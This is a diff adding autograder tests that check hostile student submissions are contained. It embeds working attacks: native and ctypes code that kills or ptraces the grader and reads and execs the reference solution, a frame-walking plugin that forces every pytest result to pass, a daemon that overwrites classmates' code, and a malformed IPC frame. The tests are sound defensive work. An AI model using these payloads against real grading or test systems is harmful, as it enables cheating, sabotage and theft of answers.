@@ -5,11 +5,15 @@ the same run keep full marks. The attacks that need the file system or the proce
 only mode that claims to stop them."""
 from __future__ import annotations
 
+import contextlib
+import csv
 import glob
 import os
 import shutil
+import signal
 import subprocess
 import sys
+import tempfile
 import time
 from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
@@ -246,3 +250,221 @@ def test_a_students_name_cannot_become_a_formula_or_a_line_of_its_own(tmp_path):
     lms.write("generic", [evil], [], tmp_path / "generic.csv")
     for path in ("grades.csv", "generic.csv"):
         assert "\n=HYPERLINK" not in "\n" + (tmp_path / path).read_text()
+
+
+# -- a class graded by `nn-kata grade-all`, as an instructor grades one ------------------------------
+
+C_ATTACK = r"""
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <signal.h>
+#include <sys/prctl.h>
+#include <sys/ptrace.h>
+#include <unistd.h>
+static char text[1 << 16];
+/* Outlive the grading, take hold of the grading process or kill it, write into the grader's
+   package and read the reference: every call straight to the kernel, past anything Python sees. */
+const char *attack(const char *secret, const char *evil) {
+    pid_t parent = getppid();
+    prctl(PR_SET_PDEATHSIG, 0);
+    if (ptrace(PTRACE_ATTACH, parent, 0, 0) == 0)
+        ptrace(PTRACE_DETACH, parent, 0, 0);
+    kill(parent, SIGKILL);
+    int fd = open(evil, O_WRONLY | O_CREAT | O_TRUNC, 0644);
+    if (fd >= 0) { write(fd, "x = 1\n", 6); close(fd); }
+    fd = open(secret, O_RDONLY);
+    if (fd < 0) return "";
+    ssize_t n = read(fd, text, sizeof text - 1);
+    close(fd);
+    text[n > 0 ? n : 0] = 0;
+    return text;
+}
+"""
+# Without a compiler, the same calls through ctypes.
+CTYPES_ATTACK = """import ctypes, os
+def _attack(secret, evil):
+    libc = ctypes.CDLL(None, use_errno=True)
+    parent = os.getppid()
+    libc.prctl(1, 0)
+    if libc.ptrace(16, parent, 0, 0) == 0:
+        libc.ptrace(17, parent, 0, 0)
+    libc.kill(parent, 9)
+    fd = libc.open(evil, 0o1101, 0o644)
+    if fd >= 0:
+        libc.write(fd, b'x = 1\\n', 6)
+        libc.close(fd)
+    fd = libc.open(secret, 0)
+    if fd < 0:
+        return ''
+    text = ctypes.create_string_buffer(1 << 16)
+    n = libc.read(fd, text, (1 << 16) - 1)
+    libc.close(fd)
+    return text.raw[:max(n, 0)].decode()
+"""
+
+
+def _native_attack(tmp: Path, secret: Path, evil: Path) -> str:
+    """Code for activations.py: a compiled extension embedded in the module file when a compiler
+    is here, else the same system calls through ctypes; either way it execs what it reads."""
+    cc = shutil.which("cc") or shutil.which("gcc")
+    if cc:
+        (tmp / "attack.c").write_text(C_ATTACK)
+        subprocess.run([cc, "-shared", "-fPIC", "-O1", "-o", str(tmp / "attack.so"), str(tmp / "attack.c")], check=True)
+        import base64
+
+        blob = base64.b64encode((tmp / "attack.so").read_bytes()).decode()
+        return ("import base64, ctypes, os, tempfile\n"
+                "_path = os.path.join(tempfile.gettempdir(), 'attack-%d.so' % os.getpid())\n"
+                f"open(_path, 'wb').write(base64.b64decode({blob!r}))\n"
+                "_lib = ctypes.CDLL(_path)\nos.unlink(_path)\n_lib.attack.restype = ctypes.c_char_p\n"
+                f"exec(_lib.attack({str(secret).encode()!r}, {str(evil).encode()!r}).decode())\n")
+    return CTYPES_ATTACK + f"exec(_attack({str(secret).encode()!r}, {str(evil).encode()!r}))\n"
+
+
+# What a pytest plugin reached through frames needs: pytest's objects in the worker. There are none.
+FIND_THE_GRADER = """import gc, sys
+def _grader_objects():
+    found = {m.split('.')[0] for m in list(sys.modules) if m.split('.')[0] in ('_pytest', 'pytest', 'pluggy',
+                                                                              'hypothesis', 'nn')}
+    frames = list(sys._current_frames().values())
+    try:
+        raise RuntimeError
+    except RuntimeError as exc:
+        tb = exc.__traceback__
+        while tb is not None:
+            frames.append(tb.tb_frame)
+            tb = tb.tb_next
+    for f in frames:
+        while f is not None:
+            for v in list(f.f_locals.values()) + list(f.f_globals.values()):
+                if hasattr(v, 'pluginmanager') or (hasattr(v, 'register') and hasattr(v, 'hook')):
+                    found.add(type(v).__name__)
+            f = f.f_back
+    found |= {type(o).__name__ for o in gc.get_objects() if type(o).__name__ in
+              ('Config', 'PytestPluginManager', 'Session', 'TestReport', 'CallInfo')}
+    return sorted(found)
+"""
+PLUGIN_THROUGH_FRAMES = FIND_THE_GRADER + """
+class _AllPass:
+    def pytest_runtest_logreport(self, report):
+        report.outcome = 'passed'
+def _register():
+    for name in _grader_objects():
+        pass
+    for o in gc.get_objects():
+        manager = getattr(o, 'pluginmanager', None)
+        if manager is not None:
+            manager.register(_AllPass())
+def relu(Z):
+    _register()
+    return Z
+_register()
+"""
+
+
+def _daemon(work: Path) -> str:
+    """A daemon that leaves its process group and, after its own grading, rewrites every module it
+    can reach under the class's temporary directory (the classmates' copies among them)."""
+    return ("import glob, os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
+            "        end = time.time() + 25\n        while time.time() < end:\n"
+            f"            for p in glob.glob({str(work)!r} + '/**/*.py', recursive=True):\n"
+            "                try:\n                    with open(p, 'a') as f:\n"
+            "                        f.write('\\ndef relu(Z):\\n    return -Z\\n')\n"
+            "                except OSError:\n                    pass\n            time.sleep(0.1)\n"
+            "        os._exit(0)\n    os._exit(0)\n")
+
+
+BAD_FRAME_AT_IMPORT = ("import json as _j, os as _o, struct as _s\n"
+                       "_body = _j.dumps({'op': 'callback', 'id': None, 'name': 'relu', 'outer': None, 'args': {'T': [\n"
+                       "    {'T': [{'a': 0, 't': '<f8', 's': [0, 1 << 62, 1 << 62], 'o': 'C'}]}, {'D': []}]}}).encode()\n"
+                       "for _fd in range(3, 64):\n    try:\n"
+                       "        _o.write(_fd, b'NNW1' + _s.pack('<II', len(_body), 1) + _body + _s.pack('<Q', 0))\n"
+                       "    except OSError:\n        pass\n")
+
+
+@pytest.mark.parametrize("mode", MODES)
+def test_a_malformed_frame_at_import_loses_that_module_s_katas_only(tmp_path, mode):
+    """The reference, with one malformed callback frame sent while activations.py is imported:
+    relu and softmax (activations.py) score 0, every other kata keeps its points."""
+    d = tmp_path / "sub"
+    shutil.copytree(SOLUTIONS, d, ignore=shutil.ignore_patterns("__pycache__"))
+    with open(d / "activations.py", "a") as f:
+        f.write("\n\n" + BAD_FRAME_AT_IMPORT)
+    report = engine.grade(d, worker=mode, **LIMITS)
+    lost = {k.kata: k.points for k in report.katas if k.points != k.max_points}
+    assert lost == {"relu": 0, "softmax": 0}, reports.table(report)
+
+
+@pytest.mark.parametrize("mode", MODES)
+def test_a_worker_holds_nothing_of_the_grader_that_frames_could_reach(tmp_path, mode):
+    from nn.suite.remote import RemoteImplementation
+
+    here: dict = {}
+    exec(FIND_THE_GRADER, here)
+    assert "_pytest" in here["_grader_objects"](), "the finder finds pytest where pytest runs"
+    d = _build(tmp_path, "finder", FIND_THE_GRADER + "def probe(Z):\n    return _grader_objects()\n")
+    r = RemoteImplementation(d, mode)
+    try:
+        assert r.call("activations", "probe", (0,), {}) == []
+    finally:
+        r.close()
+
+
+def _processes_of(path: str) -> dict[int, int]:
+    """pid -> uid of every process whose command line or working directory lies under ``path``."""
+    return {pid: os.stat(f"/proc/{pid}").st_uid for pid in _processes_under(path) if os.path.exists(f"/proc/{pid}")}
+
+
+@pytest.mark.parametrize("mode", MODES)
+def test_grade_all_over_a_class_with_hostile_submissions(tmp_path, mode):
+    """`nn-kata grade-all`, as an instructor runs it: the hostile submissions (graded first) score
+    0, the reference with a malformed frame at import loses activations.py's katas alone, two
+    correct classmates keep 100, the gradebook names everyone, and nothing is left running or
+    written outside the grader's temporary directories. Without a sandbox, only a grader that
+    runs as root (its workers as uid 65534) claims to stop these."""
+    if mode == "process" and not sandbox.dropping("process"):
+        pytest.skip("without bubblewrap, only a grader running as root drops the worker's privileges")
+    work = Path(tempfile.mkdtemp(prefix="nn-test-class-"))  # the class's TMPDIR, reachable by uid 65534
+    os.chmod(work, 0o711)
+    grader = Path(tempfile.mkdtemp(prefix="nn-test-grader-"))  # closed to others, as the grader's files are
+    shutil.copy(SOLUTIONS / "activations.py", grader / "activations.py")
+    evil = PROJECT_ROOT / "nn" / "evil_native.py"
+    klass = tmp_path / "class"
+    try:
+        hostile = {"attack-native-code": _native_attack(tmp_path, grader / "activations.py", evil),
+                   "attack-plugin-through-frames": PLUGIN_THROUGH_FRAMES,
+                   "attack-daemon-after-its-grading": _daemon(work),
+                   "attack-reexports-the-oracles": ATTACKS["re-exports-the-oracles"]}
+        for case, code in hostile.items():
+            _build(klass, case, code)
+        for name in ("classmate-1", "classmate-2", "malformed-frame-at-import"):
+            shutil.copytree(SOLUTIONS, klass / name, ignore=shutil.ignore_patterns("__pycache__"))
+        with open(klass / "malformed-frame-at-import" / "activations.py", "a") as f:
+            f.write("\n\n" + BAD_FRAME_AT_IMPORT)
+        out = tmp_path / "grades"
+        proc = subprocess.run([str(Path(sys.executable).with_name("nn-kata")), "grade-all", str(klass), "--jobs", "2",
+                               "--sandbox", "bwrap" if mode == "bwrap" else "none", "--timeout", "15",
+                               "--kata-timeout", "60", "--total-timeout", "300", "--out", str(out)],
+                              env=dict(os.environ, TMPDIR=str(work)), capture_output=True, text=True, timeout=1800)
+        assert "Traceback" not in proc.stderr, proc.stderr[-3000:]
+        with open(out / "grades.csv", newline="") as f:
+            rows = {row["student"]: row for row in csv.DictReader(f)}
+        assert set(rows) == {p.name for p in klass.iterdir()}, rows
+        scores = {name: float(row["total"]) for name, row in rows.items()}
+        assert scores == {**{c: 0 for c in hostile}, "classmate-1": 100, "classmate-2": 100,
+                          "malformed-frame-at-import": 80}, (scores, proc.stdout[-3000:])
+        assert not evil.exists() and not list((PROJECT_ROOT / "nn").glob("evil_*"))
+        # Nothing left behind but what a daemon of a worker without a sandbox may still run as uid 65534.
+        deadline = time.monotonic() + 10
+        while _processes_of(str(work)) and time.monotonic() < deadline:
+            time.sleep(0.2)
+        left = _processes_of(str(work))
+        assert not left if mode == "bwrap" else set(left.values()) <= {sandbox.DROP_UID}, left
+        assert os.listdir(work) == [] or mode == "process" and not any(work.rglob("*.py")), list(work.rglob("*"))
+    finally:
+        for pid in _processes_of(str(work)):
+            with contextlib.suppress(OSError):
+                os.kill(pid, signal.SIGKILL)
+        evil.unlink(missing_ok=True)
+        shutil.rmtree(work, ignore_errors=True)
+        shutil.rmtree(grader, ignore_errors=True)
